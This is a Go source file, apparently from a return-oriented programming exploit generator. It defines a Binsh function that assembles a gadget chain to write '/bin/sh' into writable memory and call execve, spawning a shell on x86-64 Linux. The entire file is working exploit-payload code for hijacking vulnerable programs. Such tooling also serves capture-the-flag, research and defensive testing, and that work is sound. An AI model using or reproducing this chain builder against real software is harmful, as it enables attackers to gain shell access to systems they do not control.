package rop

import (
	"encoding/binary"
	"fmt"

	"ropgen/internal/gadget"
)

const (
	// SysExecve is the x86-64 Linux execve syscall number.
	SysExecve = 59

	// ShellPath is written into writable memory and passed to execve.
	ShellPath = "/bin/sh\x00"
)

// Binsh returns a chain that writes ShellPath followed by a zero word at
// writable and then calls execve(writable, writable+8, writable+8). The zero
// word doubles as an empty argv and envp.
func Binsh(pool gadget.Pool, writable uint64) (Chain, error) {
	if len(pool) == 0 {
		return nil, ErrInsufficientPool
	}

	words := []uint64{binary.LittleEndian.Uint64([]byte(ShellPath)), 0}

	write, err := WriteData(pool, words, writable)
	if err != nil {
		return nil, fmt.Errorf("write %q: %w", ShellPath[:len(ShellPath)-1], err)
	}

	argv := writable + WordSize
	call, err := Syscall(pool, SysExecve, writable, argv, argv)
	if err != nil {
		return nil, fmt.Errorf("execve: %w", err)
	}

	return append(write, call...), nil
}
